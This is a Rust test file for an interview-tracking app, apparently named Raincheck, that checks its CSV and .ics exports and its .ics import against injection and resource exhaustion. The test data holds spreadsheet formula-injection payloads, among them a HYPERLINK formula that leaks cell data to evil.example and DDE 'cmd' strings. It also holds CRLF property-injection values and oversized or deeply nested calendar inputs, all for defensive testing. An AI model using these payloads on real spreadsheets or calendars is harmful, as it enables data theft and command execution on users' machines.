//! Exports that cannot attack their reader, and calendar files that cannot
//! attack Raincheck: CSV cells a spreadsheet will not run, .ics values that
//! cannot start a property, and .ics imports bounded in size, events and depth.

use std::io::Write;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use chrono::{DateTime, Utc};
use raincheck_core::calendar::ics::{export_ics, import_ics};
use raincheck_core::log::key_vault::NoKeyring;
use raincheck_core::log::{InterviewFields, Interviewer, Log};
use tempfile::TempDir;

fn at(text: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(text).unwrap().to_utc()
}

fn log() -> (TempDir, Log) {
    let dir = TempDir::new().unwrap();
    let log = Log::open_at(&dir.path().join("raincheck.db"), &NoKeyring("none".into())).unwrap();
    (dir, log)
}

fn fields(company: &str, position: &str) -> InterviewFields {
    InterviewFields {
        company: Some(company.into()),
        position: Some(position.into()),
        starts_at: Some("2027-03-29T10:00".into()),
        tz: Some("Europe/Berlin".into()),
        duration_minutes: Some(45),
        ..InterviewFields::default()
    }
}

#[test]
fn csv_cells_that_look_like_formulas_are_text() {
    let (_dir, mut log) = log();
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "＝1+1",
    ];
    for (i, text) in hostile.iter().enumerate() {
        log.add_interview(
            &InterviewFields {
                location: Some((*text).into()),
                notes: Some((*text).into()),
                ..fields(text, &format!("Engineer {i}"))
            },
            at("2026-11-27T12:00:00Z"),
        )
        .unwrap();
    }
    log.add_interview(
        &fields("Acme", "Backend Engineer"),
        at("2026-11-27T12:00:00Z"),
    )
    .unwrap();
    let csv = log.export_csv().unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), hostile.len() + 1);
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
                "a spreadsheet would run {cell:?}"
            );
        }
    }
    for (i, text) in hostile.iter().enumerate() {
        let row = rows
            .iter()
            .find(|row| row[column("position")] == format!("Engineer {i}"))
            .unwrap();
        for name in ["company", "location", "notes"] {
            assert_eq!(
                &row[column(name)],
                format!("'{text}"),
                "the text is kept, marked as text"
            );
        }
    }
    let plain = rows
        .iter()
        .find(|row| row[column("position")] == *"Backend Engineer")
        .unwrap();
    assert_eq!(&plain[column("company")], "Acme", "plain text is unchanged");
    assert_eq!(&plain[column("starts_at_local")], "2027-03-29 10:00");
}

/// The lines of an .ics file as a reader sees them: folds joined.
fn unfolded_lines(text: &str) -> Vec<String> {
    text.replace("\r\n ", "")
        .split("\r\n")
        .filter(|line| !line.is_empty())
        .map(str::to_owned)
        .collect()
}

#[test]
fn ics_values_cannot_start_a_property() {
    let (_dir, mut log) = log();
    log.add_interview(
        &InterviewFields {
            interviewer: Some(Interviewer {
                name: Some("Dana Lee".into()),
                email: Some("dana@acme.example".into()),
                phone: None,
            }),
            ..fields("Acme", "Engineer")
        },
        at("2026-11-27T12:00:00Z"),
    )
    .unwrap();
    // The log's own checks may refuse these on the way in; the export must be
    // safe on its own, so the record is changed after reading it.
    let mut record = log.interview_record(1).unwrap();
    let interview = &mut record.interview;
    interview.interviewer.name = Some("Dana\r\nATTACH:http://evil.example/a\"; X-Q=\"".into());
    interview.interviewer.email = Some("dana@acme.example\r\nX-EVIL-MAIL:1".into());
    interview.company = "Acme\nBEGIN:VALARM".into();
    interview.position = "Engineer\u{2028}X-EVIL-SEP:1".into();
    interview.location = Some("Room 4\rX-EVIL-CR:1".into());
    interview.notes = "Notes\r\nDTSTART:19700101T000000Z\u{0}\u{1b}[31m".into();
    let text = export_ics(std::slice::from_ref(&record)).unwrap();

    assert!(
        !text
            .replace("\r\n", "")
            .contains(['\r', '\n', '\u{2028}', '\0', '\u{1b}']),
        "only CRLF ends a line, and no control character is left: {text:?}"
    );
    let lines = unfolded_lines(&text);
    for line in &lines {
        let name = line.split([':', ';']).next().unwrap_or_default();
        assert!(
            [
                "BEGIN",
                "END",
                "VERSION",
                "PRODID",
                "CALSCALE",
                "METHOD",
                "TZID",
                "DTSTART",
                "TZOFFSETFROM",
                "TZOFFSETTO",
                "TZNAME",
                "UID",
                "DTSTAMP",
                "DTEND",
                "SEQUENCE",
                "SUMMARY",
                "STATUS",
                "LOCATION",
                "DESCRIPTION",
                "ORGANIZER",
                "ACTION",
                "TRIGGER",
            ]
            .contains(&name),
            "an injected property: {line:?}"
        );
        assert!(!line.starts_with("DTSTART:1970"), "{line:?}");
    }
    assert_eq!(
        lines.iter().filter(|l| *l == "BEGIN:VALARM").count(),
        1,
        "{text}"
    );
    let organizer = lines.iter().find(|l| l.starts_with("ORGANIZER")).unwrap();
    assert_eq!(
        organizer,
        "ORGANIZER;CN=\"Dana^nATTACH:http://evil.example/a'; X-Q='\":mailto:dana@acme.example%0D%0AX-EVIL-MAIL:1",
    );

    // And a calendar reads it back as one event holding the text.
    let calendar: icalendar::Calendar = text.parse().unwrap();
    use icalendar::{Component, EventLike};
    let events: Vec<_> = calendar.events().collect();
    assert_eq!(events.len(), 1);
    let event = events[0];
    assert!(event.property_value("ATTACH").is_none());
    assert!(event.property_value("X-EVIL-MAIL").is_none());
    assert!(event.get_summary().unwrap().contains("BEGIN:VALARM"));
    assert!(event.get_location().unwrap().starts_with("Room 4"));

    // A second, independent reader agrees (Debian's python3-icalendar).
    let script = r#"
import sys, icalendar
cal = icalendar.Calendar.from_ical(sys.stdin.read())
events = list(cal.walk("VEVENT"))
print(len(events), len(list(cal.walk("VALARM"))))
print(sorted(k for k in events[0].keys()))
print(events[0]["ORGANIZER"].params["CN"])
"#;
    let mut python = Command::new("/usr/bin/python3")
        .args(["-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("/usr/bin/python3 with python3-icalendar (scripts/setup.sh --test installs it)");
    python
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    let output = python.wait_with_output().unwrap();
    let printed = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let mut lines = printed.lines();
    assert_eq!(lines.next(), Some("1 1"), "{printed}");
    let keys = lines.next().unwrap_or_default();
    assert!(!keys.contains("ATTACH") && !keys.contains("X-"), "{keys}");
    assert!(
        lines.next().unwrap_or_default().starts_with("Dana"),
        "{printed}"
    );
}

const EVENT: &str = "BEGIN:VEVENT\r\nUID:a@example.com\r\nDTSTART:20261203T090000Z\r\nDTEND:20261203T100000Z\r\nSUMMARY:Interview: Engineer at Acme\r\nEND:VEVENT\r\n";

fn calendar_of(body: &str) -> String {
    format!("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//test//EN\r\n{body}END:VCALENDAR\r\n")
}

#[test]
fn an_ics_import_refuses_a_file_too_large() {
    let description = "x".repeat(2 * 1024 * 1024);
    let text = calendar_of(&EVENT.replace(
        "END:VEVENT",
        &format!("DESCRIPTION:{description}\r\nEND:VEVENT"),
    ));
    let error = import_ics(&text).unwrap_err().to_string();
    assert!(error.contains("over 1024 KB"), "{error}");
}

#[test]
fn an_ics_import_refuses_too_many_events() {
    let error = import_ics(&calendar_of(&EVENT.repeat(201)))
        .unwrap_err()
        .to_string();
    assert!(error.contains("more than 200 events"), "{error}");
    assert_eq!(
        import_ics(&calendar_of(&EVENT.repeat(200))).unwrap().len(),
        200
    );
}

#[test]
fn an_ics_import_refuses_deep_nesting_without_overflowing_the_stack() {
    let depth = 50_000;
    let text = "BEGIN:X\r\n".repeat(depth) + &"END:X\r\n".repeat(depth);
    let error = import_ics(&text).unwrap_err().to_string();
    assert!(error.contains("more than 8 deep"), "{error}");
    // END lines hidden in a quoted parameter do not fool the count.
    let hidden = "BEGIN:X\r\nX-A;P=\"\r\nEND:X\r\n\":v\r\n".repeat(depth / 10);
    let error = import_ics(&hidden).unwrap_err().to_string();
    assert!(
        error.contains("does not end on its line") || error.contains("more than 8 deep"),
        "{error}"
    );
    // Nor in an unquoted one, which runs to the next colon.
    let unquoted = "BEGIN:X\r\nX-A;P=a\r\nEND:X\r\nB:v\r\n".repeat(depth / 10);
    let error = import_ics(&unquoted).unwrap_err().to_string();
    assert!(
        error.contains("no colon") || error.contains("more than 8 deep"),
        "{error}"
    );
}

#[test]
fn an_ics_import_reads_a_large_file_in_linear_time() {
    // Bare LF endings and many short lines: each line once made the parser
    // search to the end of the file.
    let lines = "X-A:b\n".repeat(150_000);
    let text = format!(
        "BEGIN:VCALENDAR\nBEGIN:VEVENT\nDTSTART:20261203T090000Z\nSUMMARY:Interview: Engineer at Acme\n{lines}END:VEVENT\nEND:VCALENDAR\n"
    );
    assert!(text.len() < 1024 * 1024);
    let started = Instant::now();
    let invites = import_ics(&text).unwrap();
    assert_eq!(invites.len(), 1);
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "took {:?}",
        started.elapsed()
    );

    // A TZID of many segments: every suffix of it was tried.
    let tzid = "a/".repeat(300_000) + "Europe/Berlin";
    let text = calendar_of(&format!(
        "BEGIN:VEVENT\r\nDTSTART;TZID={tzid}:20261203T090000\r\nSUMMARY:Interview\r\nEND:VEVENT\r\n"
    ));
    let started = Instant::now();
    let invites = import_ics(&text).unwrap();
    assert_eq!(invites[0].fields.tz.as_deref(), Some("Europe/Berlin"));
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "took {:?}",
        started.elapsed()
    );
}

#[test]
fn an_ics_error_is_short_and_printable() {
    // A damaged line is quoted by its start only, without control characters.
    let line = "\u{1b}[2J".to_string() + &"y".repeat(5_000);
    let text = calendar_of(&format!("{EVENT}{line}\r\n"));
    let error = import_ics(&text).unwrap_err().to_string();
    assert!(error.chars().count() < 400, "{error}");
    assert!(!error.contains('\u{1b}'), "{error:?}");
    // The parser's own message quotes the line it stopped on: cut short.
    let text =
        calendar_of(&EVENT.replace("END:VEVENT", &format!("END:VTODO{}", "y".repeat(5_000))));
    let error = import_ics(&text).unwrap_err().to_string();
    assert!(error.chars().count() < 400, "{error}");
}
